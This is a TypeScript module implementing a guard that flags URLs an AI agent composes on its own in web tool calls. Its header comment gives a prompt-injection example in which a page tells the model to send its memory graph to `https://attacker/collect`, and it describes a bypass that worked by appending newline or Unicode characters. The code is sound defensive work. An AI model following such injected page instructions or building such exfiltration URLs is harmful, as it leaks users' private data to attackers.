/**
 * Pure. The exfiltration guard (EXFILTRATION_GUARD): a tool that reaches the web is a way out even
 * when it only reads. A page can tell the model to read the memory graph and fetch
 * `https://attacker/collect?d=<graph>`; such a URL is composed by the model, so it is none of the
 * URLs the person wrote or an untrusted page contained. Following a page's link, or fetching what
 * the person named, requests a URL already known, and is never held back.
 *
 * The guard decides on the URL the tool will request, not on text: each argument is parsed as the
 * fetch server parses it (WHATWG URL after trimming, which drops tabs and newlines anywhere, reads
 * `http:host` and backslashes as `http://host/`, percent-encodes quotes, spaces and non-ASCII), and
 * the normalised result must equal a known URL exactly. A string that looks like a URL but does not
 * parse is reported as composed, so it asks (issue 21: a known URL followed by a newline, a quote or
 * U+3000 and `?d=…` passed a text match).
 */

/** What may start a URL once tabs and newlines are dropped: a scheme, or a `//host` the model may mean as one. */
const URL_START = /(?:https?:|\/\/)/i;
/** URLs in prose the person wrote or a page holds; what a sentence puts after one is trimmed (`trimmed`). */
const URL_IN_TEXT = /https?:\/\/[^\s"'<>`]+/gi;
const TRAILING_PUNCTUATION = /[.,;:!?)\]}*_]+$/;

/** Every string of a value, at any depth. */
export function stringsOf(value: unknown, out: string[] = []): string[] {
	if (typeof value === 'string') out.push(value);
	else if (Array.isArray(value)) for (const v of value) stringsOf(v, out);
	else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsOf(v, out);
	return out;
}

/** The http(s) URL a string names as a whole, normalised as a fetch would request it; undefined if it names none. */
export function requestedUrl(raw: string): string | undefined {
	try {
		const url = new URL(raw.trim());
		return url.protocol === 'http:' || url.protocol === 'https:' ? url.href : undefined;
	} catch {
		return undefined;
	}
}

/** The normalised URLs of a text the person wrote or a page held, with and without the punctuation a sentence adds. */
export function knownUrlsOf(text: string): string[] {
	const urls: string[] = [];
	for (const match of text.match(URL_IN_TEXT) ?? []) {
		for (const candidate of new Set([match, match.replace(TRAILING_PUNCTUATION, '')])) {
			const url = requestedUrl(candidate);
			if (url) urls.push(url);
		}
	}
	return urls;
}

/**
 * What in a call's arguments (at any depth) may be requested without being known: each string that
 * is a URL as a whole and not in `known`, and each string that looks like one (holds a scheme or
 * `//` once tabs and newlines are dropped) but is not one URL as a whole, shown as it was written.
 */
export function composedUrls(args: Record<string, unknown>, known: ReadonlySet<string>): string[] {
	const composed: string[] = [];
	for (const s of stringsOf(args)) {
		const url = requestedUrl(s);
		if (url) {
			if (!known.has(url)) composed.push(url);
		} else if (URL_START.test(s.replace(/[\t\n\r]/g, ''))) composed.push(JSON.stringify(s));
	}
	return [...new Set(composed)];
}
